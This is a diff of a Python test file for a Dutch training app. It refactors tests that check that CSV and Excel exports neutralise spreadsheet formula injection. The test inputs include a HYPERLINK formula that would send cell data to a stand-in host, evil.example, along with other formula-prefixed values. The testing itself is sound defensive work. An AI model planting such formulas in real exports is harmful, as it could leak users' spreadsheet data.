@@ -35,7 +35,8 @@ from zorglab.services.intervision.errors import (
 from zorglab.services.intervision.live import ParticipantState, TrainerState
 from zorglab.services.intervision.service import IntervisionService
 from zorglab.services.intervision.storage import Storage
-from zorglab.ui.intervision_views import ParticipantView, TrainerView, _message
+from zorglab.ui.intervision_page import MessageSlot
+from zorglab.ui.intervision_views import ParticipantView, TrainerView
 
 CASES = ["RIV-01", "RIV-02"]
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+31 6 123", "-2+3", "@SUM(A1)", "\tx", "\rx"]
@@ -88,7 +89,7 @@ def test_participant_name_and_error_messages_are_escaped_in_the_views(svc):
     assert "](" not in welcome and "\\[x\\]" in welcome
     bad = ParticipantState(service=svc)
     bad.join(created.code, name, None, None)  # duplicate: the message repeats the name
-    shown = _message(bad).object
+    shown = MessageSlot(state=bad).alert.object
     assert bad.message_kind == "danger" and "](" not in shown
 
 
@@ -112,22 +113,25 @@ def test_intervision_exports_neutralise_formulas_and_keep_numbers(svc):
 
 
 def test_scenario_comparison_exports_neutralise_a_formula_name():
-    from zorglab.domain.scenario import ExplorerState, Scenario, formula_safe
+    from zorglab.core.spreadsheet import formula_safe
+    from zorglab.domain.scenario import Scenario
+    from zorglab.services.scenario_tables import to_csv
     from zorglab.ui.scenario_explorer import ScenarioExplorer
+    from zorglab.ui.scenario_state import ExplorerState
 
     st = ExplorerState(scenario=Scenario(n_clients=2000))
     st.save('=HYPERLINK("http://evil.example/?"&A1,"klik")')
     st.save("-1+1")
     view = ScenarioExplorer(state=st)
-    table = pd.read_csv(io.StringIO(view._compare_csv().getvalue()))
+    table = pd.read_csv(io.StringIO(view.compare.csv().getvalue()))
     assert [c for c in table.columns if c.startswith(("=", "-", "+", "@"))] == []
     assert any(c.startswith("'=HYPERLINK(") for c in table.columns) and "'-1+1" in table.columns
-    wb = openpyxl.load_workbook(view._compare_excel())
+    wb = openpyxl.load_workbook(view.compare.excel())
     assert all(c.data_type != "f" for row in wb.active.iter_rows() for c in row)
     frame = pd.DataFrame({"name": ["=1+1", "ok", "-x"], "value": [-5.5, 2.0, -1.0]})
     safe = formula_safe(frame)
     assert safe["name"].tolist() == ["'=1+1", "ok", "'-x"] and safe["value"].tolist() == [-5.5, 2.0, -1.0]
-    text = Scenario(n_clients=2000, tariff_factor=0.8).to_csv()  # spend falls: negative differences
+    text = to_csv(Scenario(n_clients=2000, tariff_factor=0.8))  # spend falls: negative differences
     assert re.search(r",-\d+\.\d+,", text)  # genuine negative numbers stay numbers ...
     assert not re.search(r",'-[\d.]+(,|\n)", text)  # ... none is quoted as text
     assert "\"'-0,30 – 0,50\"" in text  # while a text cell starting with '-' (a range) is neutralised
@@ -153,7 +157,7 @@ def test_deleted_database_is_reported_not_recreated_and_the_form_keeps_the_input
     assert trainer.message_kind == "danger" and "verdwenen" in trainer.message  # the console says so too
     trainer.clear_message()
     assert trainer.poll() is False and trainer.message_kind == "danger"  # the live poll: a message, no exception
-    assert tv._download(export.answers_csv).getvalue() == b"" and "verdwenen" in trainer.message
+    assert tv.download(export.answers_csv).getvalue() == b"" and "verdwenen" in trainer.message
 
 
 def test_a_lock_held_briefly_is_retried_and_one_held_too_long_is_reported(svc, db):
@@ -310,7 +314,7 @@ def test_exports_strict_json_dutch_csv_and_readable_participants(svc):
     svc.set_round(created.trainer_secret, created.session_id, r_arena, "open")
     from zorglab.domain.cases import STAKEHOLDERS
 
-    svc.submit(b.token, r_arena, "RIV-02", {"roles": dict.fromkeys(STAKEHOLDERS, "geen") | {"gemeente": "investeerder"}})
+    svc.submit(b.token, r_arena, "RIV-02", {"roles": dict.fromkeys(STAKEHOLDERS, "neutral") | {"gemeente": "investor"}})
 
     doc_bytes = export.session_json(svc, created.session_id)
 
@@ -338,7 +342,7 @@ def test_exports_strict_json_dutch_csv_and_readable_participants(svc):
     assert csv.loc["indicatie", "units_per_week_1"] == 2.5 and csv.loc["indicatie", "weeks_1"] == 52
     assert csv.loc["mdo", "activity_1_name"] == act["name_nl"] and csv.loc["mdo", "quantity_1"] == 12
     assert csv.loc["mdo", "quantity_1_unit"] == act["unit"] and csv.loc["mdo", "wellbeing_after"] == 7
-    assert csv.loc["arena", "role_gemeente"] == "investeerder" and csv.loc["arena", "role_buurt"] == "geen"
+    assert csv.loc["arena", "role_gemeente"] == "investor" and csv.loc["arena", "role_buurt"] == "neutral"
     stamp = csv.loc["indicatie", "submitted_at"]
     assert datetime.fromisoformat(stamp).tzinfo is not None and stamp[:4] == str(datetime.now().year)
     assert ";2,5;" in raw.decode("utf-8-sig")  # decimal comma
